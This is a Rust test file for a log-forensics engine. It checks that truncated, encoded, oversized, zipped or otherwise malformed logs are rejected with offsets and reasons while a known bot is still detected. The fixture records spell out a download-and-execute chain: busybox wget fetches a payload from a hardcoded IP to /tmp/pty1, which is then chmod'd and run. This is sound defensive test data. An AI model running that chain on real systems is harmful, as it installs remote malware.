//! Whatever is wrong with the input, the run ends well, what was rejected is counted with its place and reason, and
//! everything else is found.
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

mod common;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Run, line, run, source, told};

/// A folder with one good log in it, which must be read whatever else is there.
struct Folder(tempfile::TempDir);

impl Folder {
    fn new() -> Self {
        let it = Self(tempfile::tempdir().unwrap());
        it.file("good.ndjson", bot("good").as_bytes());
        it
    }
    fn path(&self) -> &Path {
        self.0.path()
    }
    fn file(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path
    }
    /// Runs it all; the bot of the good log is always found.
    fn run(&self) -> Run {
        let run = run(self.path());
        assert_found(&run, "good");
        assert_eq!(told(&run, "/good.ndjson"), "plain_ndjson: 5 read; -");
        let summary = &run.findings.summary;
        assert_eq!(summary.events_rejected, summary.sources.iter().map(|it| it.rejected).sum::<u64>());
        assert_eq!(summary.events_read, summary.sources.iter().map(|it| it.read).sum::<u64>());
        run
    }
}

/// Five records of a bot on one host.
fn bot(host: &str) -> String {
    let time = |n: u32| format!("2019-11-04 08:21:4{n}.27281");
    [
        line("1", &time(0), host, "/usr/sbin/sshd -R", 100, 1, "/usr/sbin/sshd"),
        line("2", &time(1), host, "/bin/bash", 101, 100, "/usr/sbin/sshd"),
        line(
            "3",
            &time(2),
            host,
            "/bin/busybox wget -O /tmp/pty1 http://159.89.156.190/.y/pty1",
            102,
            101,
            "/bin/bash",
        ),
        line("4", &time(3), host, "/bin/chmod +x /tmp/pty1", 103, 101, "/bin/bash"),
        line("5", &time(4), host, "/tmp/pty1", 104, 101, "/bin/bash"),
    ]
    .concat()
}

#[track_caller]
fn assert_found(run: &Run, host: &str) {
    let found = run.findings.gangs.iter().any(|it| {
        it.who.hosts.iter().any(|it| &**it == host)
            && it.who.indicators.values().flatten().any(|it| &*it.value == "http://159.89.156.190/.y/pty1")
    });
    assert!(found, "the bot on {host} was not found: {:#?}", run.findings.summary);
}

/// Where each rejected record of a source stood, how long it was, and why.
fn rejected(run: &Run, end: &str) -> Vec<(u64, u64, String)> {
    let of = run.findings.rejected.iter().filter(|it| it.source.ends_with(end));
    of.map(|it| (it.offset, it.length, it.reason.to_string())).collect()
}

/// Command lines of processes whose host is this.
fn commands(run: &Run, host: &str) -> usize {
    run.rows.processes.iter().filter(|it| &*it.host == host).count()
}

#[test]
fn a_truncated_evtx() {
    let folder = Folder::new();
    let whole = include_bytes!("../../../fixtures/collect/evtx/two_chunks.in");
    folder.file("whole.evtx", whole);
    let read = {
        let run = folder.run();
        assert_eq!(told(&run, "whole.evtx").split(" read").next(), Some("evtx: 4"));
        source(&run, "whole.evtx").read
    };
    for (cut, name) in [
        (whole.len() - 3000, "tail.evtx"),
        (4096 + 65536 + 700, "second.evtx"),
        (4096 + 600, "first.evtx"),
        (100, "header.evtx"),
    ] {
        let folder = Folder::new();
        folder.file(name, &whole[..cut]);
        let run = folder.run();
        let it = source(&run, name);
        assert_eq!(it.format.as_deref(), Some("evtx"), "{name}");
        assert!(it.read <= read && it.rejected > 0, "{name}: {it:?}");
        assert!(it.reasons.keys().any(|it| it.contains("evtx")), "{name}: {it:?}");
        assert!(rejected(&run, name).iter().all(|(at, _, _)| *at < cut as u64), "{name}");
    }
}

#[test]
fn half_a_json_line() {
    let folder = Folder::new();
    let (before, after) = (bot("before"), bot("after"));
    let half = r#"{"id":"x","time":"2019-11-04 08:21:40","host":"h","cmd_line":"whoa"#;
    folder.file("half.ndjson", format!("{before}{half}\n{after}{half}").as_bytes());
    let run = folder.run();
    assert_eq!(told(&run, "half.ndjson"), "plain_ndjson: 10 read; 2 × JSON ends in the middle of a value");
    let (first, last) = (before.len() as u64, (before.len() + half.len() + 1 + after.len()) as u64);
    let why = "JSON ends in the middle of a value".to_owned();
    assert_eq!(
        rejected(&run, "half.ndjson"),
        [(first, half.len() as u64, why.clone()), (last, half.len() as u64, why)]
    );
    assert_found(&run, "before");
    assert_found(&run, "after");
}

/// In JSON that need not be a line a record, half a record must not swallow those behind it, wherever it was cut.
#[test]
fn half_a_json_object_costs_itself_alone() {
    let whole = r#"{"eventid":"cowrie.command.input","input":"uname -a","timestamp":"2019-11-04T08:21:40.272810Z","src_ip":"203.0.113.9","session":"0a1b2c3d4e5f","sensor":"pot1","duration":12,"list":["a",{"b":1}]}"#;
    let good: String = (0..9).map(|n| whole.replace("uname -a", &format!("uname -a {n}")) + "\n").collect();
    for cut in 1..whole.len() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("half.json");
        std::fs::write(&path, format!("{good}{}\n{good}", &whole[..cut])).unwrap();
        let inputs = [ringleader_engine::sources::Input::Path(path)];
        let config = common::collect_config(1, 64 << 20);
        let read = ringleader_engine::collect::collect(&inputs, &config, &ringleader_engine::collect::Quiet).unwrap();
        let it = &read.sources[0];
        assert_eq!(
            (it.format.as_deref(), it.read, it.rejected),
            (Some("cowrie"), 18, 1),
            "cut at {cut}: {:?}",
            &whole[..cut]
        );
    }
}

#[test]
fn a_binary_file_an_empty_one_and_one_of_no_known_format() {
    let folder = Folder::new();
    folder.file(
        "binary.bin",
        &(0..100_000u32).flat_map(|n| (n.wrapping_mul(2_654_435_761)).to_le_bytes()).collect::<Vec<_>>(),
    );
    folder.file("empty.log", b"");
    folder.file("blank.log", b"\n\n  \n");
    folder.file("prose.txt", "Dear all,\nplease find the logs attached.\n".repeat(50).as_bytes());
    let run = folder.run();
    assert_eq!(told(&run, "binary.bin"), "no format: 0 read; 1 × format not recognised: binary");
    assert_eq!(told(&run, "empty.log"), "no format: 0 read; -");
    assert_eq!(told(&run, "blank.log"), "no format: 0 read; 1 × format not recognised");
    assert_eq!(told(&run, "prose.txt"), "no format: 0 read; 1 × format not recognised");
    assert_eq!(rejected(&run, "prose.txt").len(), 1);
    // What was not recognised is quoted as far as it helps, not whole.
    assert!(run.findings.rejected.iter().all(|it| it.record.as_ref().is_none_or(|it| it.len() <= 4096)));
}

#[test]
fn nul_bytes() {
    let folder = Folder::new();
    // A log that a full disk or a crash left behind: a hole of zeros inside, and at its end.
    let (before, after, hole) = (bot("before"), bot("after"), "\0".repeat(5000));
    folder.file("hole.ndjson", format!("{before}{hole}\n{after}{hole}").as_bytes());
    folder.file("zeros.ndjson", hole.as_bytes());
    let nul = line("1", "2019-11-04 08:21:40", "nul", "/bin/sh -c a\0b", 7, 1, "init");
    folder.file("escaped.ndjson", nul.as_bytes());
    let run = folder.run();
    assert_eq!(source(&run, "hole.ndjson").read, 10);
    assert_eq!(source(&run, "hole.ndjson").rejected, 2);
    assert_eq!(told(&run, "zeros.ndjson"), "no format: 0 read; 1 × format not recognised: binary");
    assert_eq!(told(&run, "escaped.ndjson"), "plain_ndjson: 1 read; -");
    assert_found(&run, "before");
    assert_found(&run, "after");
    // What is written of it is sound.
    let written = common::written(&run.findings, &run.rows);
    assert!(!written["members.parquet"].is_empty());
}

/// `name` is the test that calls this; it runs again in a process of its own, whose peak memory is then its own.
fn bounded(name: &str, most_mib: u64, body: fn()) {
    if std::env::var_os("RINGLEADER_ALONE").is_some() {
        body();
        let status = std::fs::read_to_string("/proc/self/status").unwrap();
        let peak = status.lines().find_map(|it| it.strip_prefix("VmHWM:")).unwrap();
        let mib = peak.trim().trim_end_matches(" kB").parse::<u64>().unwrap() / 1024;
        println!("{name}: {mib} MiB at most");
        assert!(mib < most_mib, "{mib} MiB used, {most_mib} allowed");
        return;
    }
    let mut alone = Command::new(std::env::current_exe().unwrap());
    let output = alone.args([name, "--exact", "--nocapture"]).env("RINGLEADER_ALONE", "1").output().unwrap();
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{text}\n{}", String::from_utf8_lossy(&output.stderr));
    assert!(text.contains("1 passed"), "{text}");
}

fn long_line(folder: &Folder, name: &str, start: &str, end: &str) -> u64 {
    let mut file = std::io::BufWriter::new(std::fs::File::create(folder.path().join(name)).unwrap());
    file.write_all(bot("before").as_bytes()).unwrap();
    file.write_all(start.as_bytes()).unwrap();
    let block = vec![b'a'; 1 << 20];
    for _ in 0..100 {
        file.write_all(&block).unwrap();
    }
    file.write_all(end.as_bytes()).unwrap();
    file.write_all(b"\n").unwrap();
    file.write_all(bot("after").as_bytes()).unwrap();
    file.flush().unwrap();
    bot("before").len() as u64
}

#[test]
fn a_line_of_100_megabytes() {
    bounded("a_line_of_100_megabytes", 400, || {
        let folder = Folder::new();
        let at = long_line(&folder, "long.ndjson", r#"{"id":"x","cmd_line":""#, "\"}");
        // As CSV, with a quote that spans it all.
        let mut csv = std::fs::File::create(folder.path().join("long.csv")).unwrap();
        csv.write_all(b"id,time,host,file_path,cmd_line,pid,ppid,parent\n").unwrap();
        csv.write_all(b"1,2019-11-04 08:21:40,csv,/bin/ls,ls,5,1,init\n2,\"").unwrap();
        for _ in 0..100 {
            csv.write_all(&vec![b'a'; 1 << 20]).unwrap();
        }
        csv.write_all(b"\n3,2019-11-04 08:21:41,csv,/bin/ls,ls,6,1,init\n").unwrap();
        let run = folder.run();
        let why = "record longer than the limit of 16 MiB";
        assert_eq!(told(&run, "long.ndjson"), format!("plain_ndjson: 10 read; 1 × {why}"));
        assert_eq!(rejected(&run, "long.ndjson")[0].0, at);
        assert_found(&run, "before");
        assert_found(&run, "after");
        assert_eq!(told(&run, "long.csv"), format!("plain_csv: 2 read; 1 × {why}"));
    });
}

#[test]
fn a_million_children_of_one_parent() {
    bounded("a_million_children_of_one_parent", 700, || {
        let folder = Folder::new();
        let mut file = std::io::BufWriter::new(std::fs::File::create(folder.path().join("many.csv")).unwrap());
        file.write_all(b"id,time,host,file_path,cmd_line,pid,ppid,parent\n").unwrap();
        file.write_all(b"p,2019-11-04 00:00:00,many,/bin/bash,bash,100,1,sshd\n").unwrap();
        for n in 0..1_000_000u32 {
            let (s, us) = (n / 1000, n % 1000 * 1000);
            writeln!(
                file,
                "{n},2019-11-04 00:{:02}:{:02}.{us:06},many,/bin/c{},c{} {n},{},100,bash",
                1 + s / 60,
                s % 60,
                n % 7,
                n % 7,
                1000 + n
            )
            .unwrap();
        }
        file.flush().unwrap();
        // Without a row for every process: those are kept until the end, whoever asks for them.
        let run = common::run_config(&[folder.path().to_owned()], common::collect_config(2, 64 << 20), false);
        assert_found(&run, "good");
        assert_eq!(told(&run, "many.csv"), "plain_csv: 1000001 read; -");
        let health = &run.analyzed.health["many"];
        // Every child is linked to its parent; the parent's own link is to init, which tells nothing of loss.
        assert_eq!((health.processes, health.links + health.missing), (1_000_001, 1_000_000), "{health:?}");
    });
}

#[test]
fn paths_in_gbk_and_logs_in_utf16() {
    let folder = Folder::new();
    let csv = "id,time,host,file_path,cmd_line,pid,ppid,parent\n\
               1,2019-11-04 08:21:40,gbk,C:\\用户\\木马.exe,C:\\用户\\木马.exe http://159.89.156.190/.y/pty1,5,1,services.exe\n";
    folder.file("gbk.csv", &encoding_rs::GBK.encode(csv).0);
    let json = line("1", "2019-11-04 08:21:41", "gbkjson", "C:\\用户\\木马.exe -x", 6, 1, "services.exe");
    folder.file("gbk.ndjson", &encoding_rs::GBK.encode(&json).0);
    let utf16 = |text: &str, big: bool| -> Vec<u8> {
        let bytes = |it: u16| if big { it.to_be_bytes() } else { it.to_le_bytes() };
        std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(bytes).collect()
    };
    folder.file("little.ndjson", &utf16(&bot("little"), false));
    folder.file("big.ndjson", &utf16(&bot("big"), true));
    folder.file("bom.ndjson", format!("\u{feff}{}", bot("bom")).as_bytes());
    // Half a character at the end.
    folder.file("odd.ndjson", &[utf16(&bot("odd"), false), vec![b'x']].concat());
    let run = folder.run();
    assert_eq!(told(&run, "gbk.csv"), "plain_csv: 1 read; -");
    assert_eq!(told(&run, "gbk.ndjson"), "plain_ndjson: 1 read; -");
    for host in ["little", "big", "bom", "odd"] {
        assert_eq!(source(&run, &format!("{host}.ndjson")).read, 5, "{host}");
        assert_found(&run, host);
    }
    // Whatever the encoding, what is quoted is the record itself.
    let quoted =
        run.findings.evidence.iter().filter(|it| it.source.as_ref().is_some_and(|it| it.ends_with("little.ndjson")));
    let mut n = 0;
    for it in quoted {
        let text = it.excerpt.as_deref().unwrap_or("");
        assert!(text.starts_with('{') && text.ends_with('}') && text.contains("\"host\":\"little\""), "{it:?}");
        n += 1;
    }
    assert!(n > 0, "nothing was quoted from UTF-16");
}

#[test]
fn dates_that_do_not_exist_and_clocks_that_are_wrong() {
    let folder = Folder::new();
    let mut text = bot("clock");
    for (n, time) in
        ["2018-09-31 08:00:00", "2019-02-29T08:00:00Z", "2019-11-04 25:00:00", "0000-00-00 00:00:00"].iter().enumerate()
    {
        text.push_str(&line(&format!("no{n}"), time, "clock", "/bin/ls", 7, 1, "init"));
    }
    text.push_str(&line("what", "yesterday", "clock", "/bin/ls", 7, 1, "init"));
    for (n, time) in ["1970-01-01 00:00:00", "2099-12-31T23:59:59Z", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z"]
        .iter()
        .enumerate()
    {
        text.push_str(&line(&format!("yes{n}"), time, "clock", "/bin/ls", 20 + n as u32, 1, "init"));
    }
    folder.file("clock.ndjson", text.as_bytes());
    let run = folder.run();
    assert_eq!(
        told(&run, "clock.ndjson"),
        "plain_ndjson: 9 read; 4 × a date or time that does not exist, 1 × unreadable time"
    );
    assert_found(&run, "clock");
    let health = &run.analyzed.health["clock"];
    assert!(health.first < health.last);
}

#[test]
fn times_without_a_zone_are_as_they_are_said_to_be() {
    let folder = Folder::new();
    let text = line("1", "2019-11-04 08:21:40", "zone", "/bin/ls", 7, 1, "init")
        + &line("2", "2019-11-04T08:21:40+09:00", "zone", "/bin/ls", 8, 1, "init");
    let path = folder.file("zone.ndjson", text.as_bytes());
    let mut config = common::collect_config(1, 64 << 20);
    config.times.utc_offset_minutes = 480;
    let inputs = [ringleader_engine::sources::Input::Path(path)];
    let read = ringleader_engine::collect::collect(&inputs, &config, &ringleader_engine::collect::Quiet).unwrap();
    let mut times = Vec::new();
    for bucket in 0..ringleader_engine::Buckets::n_buckets(&read) {
        let loaded = ringleader_engine::Buckets::load(&read, bucket).unwrap();
        times.extend(loaded.rows.iter().filter_map(|it| it.time).map(|it| it.to_string()));
    }
    times.sort();
    assert_eq!(times, ["2019-11-03T23:21:40.000000Z", "2019-11-04T00:21:40.000000Z"]);
}

#[test]
fn pid_0_ppid_of_its_own_and_a_cycle() {
    let folder = Folder::new();
    let at = |n: u32| format!("2019-11-04 08:22:{n:02}");
    let text = [
        line("zero", &at(0), "odd", "/bin/zero", 0, 0, "swapper"),
        line("of-zero", &at(1), "odd", "/bin/of-zero", 50, 0, "zero"),
        line("self", &at(2), "odd", "/bin/self", 60, 60, "self"),
        line("a", &at(3), "odd", "/bin/a", 70, 72, "c"),
        line("b", &at(3), "odd", "/bin/b", 71, 70, "a"),
        line("c", &at(3), "odd", "/bin/c", 72, 71, "b"),
        line("huge", &at(4), "odd", "/bin/huge", u32::MAX, 60, "self"),
        bot("odd"),
    ]
    .concat();
    folder.file("odd.ndjson", text.as_bytes());
    folder.file(
        "pids.ndjson",
        format!(
            "{}{}{}",
            line("ok", &at(0), "pids", "/bin/ok", 5, 1, "init"),
            line("neg", &at(0), "pids", "/bin/neg", 5, 1, "init").replace("\"pid\":5", "\"pid\":-5"),
            line("big", &at(0), "pids", "/bin/big", 5, 1, "init").replace("\"pid\":5", "\"pid\":99999999999"),
        )
        .as_bytes(),
    );
    let run = folder.run();
    assert_eq!(told(&run, "odd.ndjson"), "plain_ndjson: 12 read; -");
    assert_eq!(told(&run, "pids.ndjson"), "plain_ndjson: 1 read; 2 × missing or invalid field `pid`");
    assert_found(&run, "odd");
    assert_eq!(commands(&run, "odd"), 12);
    // Nobody is his own ancestor.
    let rows: Vec<_> = run.rows.processes.iter().filter(|it| &*it.host == "odd").collect();
    for row in &rows {
        let mut at = row.parent_event_id;
        for _ in 0..rows.len() {
            assert_ne!(at, Some(row.event_id), "{row:?}");
            at = rows.iter().find(|it| Some(it.event_id) == at).and_then(|it| it.parent_event_id);
        }
    }
}

#[test]
fn a_loop_of_folders_and_files_that_cannot_be_read() {
    let folder = Folder::new();
    let deep = folder.path().join("deep/er");
    std::fs::create_dir_all(&deep).unwrap();
    std::fs::write(deep.join("deep.ndjson"), bot("deep")).unwrap();
    std::os::unix::fs::symlink(folder.path(), deep.join("back")).unwrap();
    std::os::unix::fs::symlink("itself", folder.path().join("itself")).unwrap();
    // The superuser can read what others cannot, so a file without permissions would not do here.
    std::os::unix::fs::symlink("/nowhere/at/all", folder.path().join("dangling.log")).unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(folder.path().join("socket")).unwrap();
    assert!(Command::new("mkfifo").arg(folder.path().join("fifo")).status().unwrap().success());
    let run = folder.run();
    assert_found(&run, "deep");
    assert_eq!(told(&run, "dangling.log"), "no format: 0 read; 1 × no such file or directory");
    assert_eq!(told(&run, "/socket"), "no format: 0 read; 1 × neither a file nor a folder");
    assert_eq!(told(&run, "/fifo"), "no format: 0 read; 1 × neither a file nor a folder");
    assert_eq!(source(&run, "/itself").rejected, 1);
    assert_eq!(run.findings.summary.events_read, 10);
}

fn zipped(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in members {
        archive.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        archive.write_all(bytes).unwrap();
    }
    archive.finish().unwrap().into_inner()
}

#[test]
fn archives_that_are_bombs_too_deep_or_damaged() {
    bounded("archives_that_are_bombs_too_deep_or_damaged", 400, || {
        let folder = Folder::new();
        let block = vec![b'\n'; 40 << 20];
        let inner = zipped(&[("1", &block), ("2", &block), ("3", &block), ("4", &block)]);
        folder.file("bomb.zip", &zipped(&[("first.ndjson", bot("first").as_bytes()), ("inner.zip", &inner)]));
        let mut deep = zipped(&[("deep.ndjson", bot("deep").as_bytes())]);
        for layer in ["5", "4", "3", "2"] {
            deep = zipped(&[("beside.ndjson", bot("beside").as_bytes()), (layer, &deep)]);
        }
        folder.file("deep.zip", &deep);
        let whole = zipped(&[("cut.ndjson", bot("cut").as_bytes())]);
        folder.file("cut.zip", &whole[..whole.len() - 10]);
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        gz.write_all(bot("gz").as_bytes()).unwrap();
        let gz = gz.finish().unwrap();
        folder.file("cut.gz", &gz[..gz.len() - 12]);
        let run = folder.run();
        assert_found(&run, "first");
        assert_found(&run, "beside");
        let all: Vec<String> = run
            .findings
            .rejected
            .iter()
            .map(|it| format!("{}: {}", it.source.rsplit('/').next().unwrap_or(""), it.reason))
            .collect();
        assert!(
            all.iter().any(|it| it.starts_with("bomb.zip") && it.contains("unpacks to more than 1000 times")),
            "{all:#?}"
        );
        assert!(all.iter().any(|it| it == "deep.zip!2!3!4!5: packed more than 3 times: not read"), "{all:#?}");
        assert!(all.iter().any(|it| it.starts_with("cut.zip: ")), "{all:#?}");
        assert!(all.iter().any(|it| it.starts_with("cut.gz: ")), "{all:#?}");
        assert!(!run.findings.gangs.iter().any(|it| it.who.hosts.iter().any(|it| &**it == "deep")));
    });
}
